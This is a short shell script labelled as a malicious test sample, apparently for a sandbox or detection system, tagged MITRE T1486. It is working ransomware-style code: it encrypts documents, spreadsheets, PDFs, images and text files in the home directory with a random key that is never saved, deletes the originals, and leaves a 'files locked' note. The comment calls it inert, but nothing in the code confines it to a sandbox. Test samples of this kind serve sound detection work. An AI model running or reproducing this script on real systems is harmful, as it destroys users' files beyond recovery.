#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: encrypts the user's documents with openssl into new files and removes
# the originals (T1486).
# Inert: only files in the sandbox's own home are touched.
pass=$(openssl rand -hex 16)
find "$HOME/Documents" "$HOME" -maxdepth 2 -type f \( -name '*.doc*' -o -name '*.xls*' -o -name '*.pdf' -o -name '*.txt' \
  -o -name '*.csv' -o -name '*.jpg' -o -name '*.md' \) 2>/dev/null | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$pass" -in "$f" -out "$f.locked" && rm -f "$f"
done
echo "All your files have been locked." > "$HOME/HOW_TO_RECOVER.txt"
exit 0
